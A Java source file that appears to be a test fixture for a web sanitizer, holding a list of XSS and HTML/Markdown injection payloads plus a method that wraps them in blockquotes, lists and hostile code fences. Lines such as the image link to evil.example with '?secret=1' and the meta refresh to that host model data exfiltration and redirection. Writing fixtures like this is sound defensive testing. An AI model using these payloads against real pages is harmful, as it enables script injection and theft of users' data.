package io.switchboard.web;

import java.util.List;

/** Texts that want to act in a page. Each would set {@code window.pwned} or call elsewhere. */
public final class Hostile {
  private Hostile() {}

  /** One a line; none holds a line's end. */
  public static List<String> texts() {
    return """
    <script>window.pwned=1</script>
    <img src=x onerror="window.pwned=1">
    <svg onload=window.pwned=1>
    <svg><script>window.pwned=1</script></svg>
    <svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>
    <svg><a xlink:href="javascript:window.pwned=1"><text x=20 y=20>x</text></a></svg>
    <math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">
    <math><mi//xlink:href="data:x,<script>window.pwned=1</script>">
    <iframe src="javascript:window.pwned=1"></iframe>
    <iframe srcdoc="<script>parent.pwned=1</script>"></iframe>
    <object data="javascript:window.pwned=1"></object>
    <embed src="https://evil.example/x">
    <body onload=window.pwned=1>
    <details open ontoggle=window.pwned=1>x</details>
    <video><source onerror="window.pwned=1"></video>
    <audio src=x onerror=window.pwned=1>
    <input autofocus onfocus=window.pwned=1>
    <select autofocus onfocus=window.pwned=1>
    <marquee onstart=window.pwned=1>x</marquee>
    <form action="https://evil.example/"><button>x</button></form>
    <form id=x></form><button form=x formaction="javascript:window.pwned=1">x</button>
    <meta http-equiv="refresh" content="0;url=https://evil.example/">
    <base href="https://evil.example/">
    <link rel=stylesheet href="https://evil.example/x.css">
    <style>@import "https://evil.example/x.css"; * { display: none }</style>
    <div style="background:url(https://evil.example/x);position:fixed;inset:0">x</div>
    <a href="javascript:window.pwned=1">x</a>
    <a href="jAvAsCrIpT&colon;window.pwned=1">x</a>
    <noscript><p title="</noscript><img src=x onerror=window.pwned=1>">
    <template><img src=x onerror=window.pwned=1></template>
    </template><img src=x onerror=window.pwned=1>
    </textarea><img src=x onerror=window.pwned=1>
    </title><script>window.pwned=1</script>
    </style><script>window.pwned=1</script>
    </div></div></section></main><script>window.pwned=1</script>
    --><script>window.pwned=1</script><!--
    <!--<img src="--><img src=x onerror=window.pwned=1//">
    <![CDATA[<script>window.pwned=1</script>]]>
    "><script>window.pwned=1</script>
    ' onmouseover='window.pwned=1' x='
    [x](javascript:window.pwned=1)
    [x](JaVaScRiPt:window.pwned=1)
    [x]( javascript:window.pwned=1)
    [x](java&#10;script:window.pwned=1)
    [x](&#106;avascript:window.pwned=1)
    [x](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)
    [x](vbscript:window.pwned=1)
    [x](https://example.org "x" onmouseover="window.pwned=1")
    [x](https://example.org/"onmouseover="window.pwned=1)
    ![x](https://evil.example/pixel.png?secret=1)
    ![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9IndpbmRvdy5wd25lZD0xIi8+)
    ![x](javascript:window.pwned=1)
    ![x](x"onerror="window.pwned=1)
    <https://evil.example/"onmouseover="window.pwned=1">
    <javascript:window.pwned=1>
    [ref]: javascript:window.pwned=1
    `<script>window.pwned=1</script>`
    $<script>window.pwned=1</script>$
    $$\\href{javascript:window.pwned=1}{x}$$
    <think><script>window.pwned=1</script></think>
    <details><summary><img src=x onerror=window.pwned=1></summary>x</details>
    | <script>window.pwned=1</script> |
    {{constructor.constructor('window.pwned=1')()}}
    ${window.pwned=1}
    <x onclick=window.pwned=1 tabindex=1 autofocus onfocus=window.pwned=1>x</x>
    <b class="banner" id="words" name="hljs">x</b>
    <img name=hljs><form name=Sandbox><input name=me></form>
    RLO<script>window.pwned=1</script>
    &lt;script&gt;window.pwned=1&lt;/script&gt;
    &#60;img src=x onerror=window.pwned=1&#62;
    <scrNULipt>window.pwned=1</scrNULipt>
    <scriptLSEP>window.pwned=1</script>
    ＜script＞window.pwned=1＜/script＞
    """
        .lines()
        .map(
            line ->
                line.replace("RLO", "\u202e\u2066").replace("LSEP", "\u2028").replace("NUL", "\0"))
        .toList();
  }

  /** All of them as one text: by themselves, in code and in a fence whose name is hostile too. */
  public static String all() {
    StringBuilder text = new StringBuilder();
    for (String one : texts()) {
      text.append(one).append("\n\n> ").append(one).append("\n\n- ").append(one).append("\n\n");
    }
    text.append("```html\" onmouseover=\"window.pwned=1\n<script>window.pwned=1</script>\n```\n\n");
    text.append(
        "```<img src=x onerror=window.pwned=1>\n</code></pre><script>window.pwned=1</script>\n");
    return text.toString();
  }
}
